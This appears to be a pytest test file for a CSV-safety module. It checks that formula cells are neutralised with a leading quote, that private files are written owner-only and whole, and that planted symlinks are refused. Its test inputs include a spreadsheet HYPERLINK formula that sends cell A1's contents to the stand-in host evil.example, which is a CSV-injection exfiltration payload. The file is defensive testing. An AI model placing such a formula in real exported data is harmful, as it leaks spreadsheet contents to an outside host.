"""The one CSV writer and private files: formula cells neutralised, files 0600, no links."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest

from groundswell.csvsafe import neutralise, private_file, restore, write_private, writer
from groundswell.errors import InvalidInput

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123",
    "-5 minutes",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
    "-inf",
]
KEPT = ["plain text", "", "'quoted", "a=b", "-1.5", "+44", "-12", "1e-5", "2024-05-01"]


@pytest.mark.parametrize("text", FORMULAS)
def test_finding_8_formula_cells_get_a_leading_quote(text: str):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_finding_8_plain_text_and_plain_numbers_are_kept(text: str):
    assert neutralise(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *KEPT, "'=already quoted", "''-twice", "'-1"])
def test_finding_8_the_quote_comes_off_again_for_every_text(text: str):
    assert restore(neutralise(text)) == text


def test_finding_8_the_writer_neutralises_text_cells_only():
    out = io.StringIO()
    writer(out, lineterminator="\n").writerows([["name", "score"], ["=1+1", -1.5], ["-3", -3]])
    assert out.getvalue() == "name,score\n'=1+1,-1.5\n-3,-3\n"
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'=1+1", "-1.5"]


def test_finding_low_private_files_are_owner_only_and_whole(tmp_path: Path):
    target = tmp_path / "out.csv"
    write_private(target, "a,b\n")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with pytest.raises(RuntimeError), private_file(target) as handle:
        handle.write("half")
        raise RuntimeError("disk gone")
    assert target.read_text() == "a,b\n"  # a failed write leaves the earlier file whole
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # and no temporary file


def test_finding_low_a_planted_symlink_is_never_written_through(tmp_path: Path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "report.csv"
    link.symlink_to(victim)
    with pytest.raises(InvalidInput, match=r"report\.csv is a symbolic link"):
        write_private(link, "x")
    assert victim.read_text() == "keep me" and link.is_symlink()


def test_finding_low_an_unwritable_place_is_one_clear_error(tmp_path: Path):
    with pytest.raises(InvalidInput, match=r"cannot write .*missing.*; choose another"):
        write_private(tmp_path / "missing" / "out.csv", b"x")
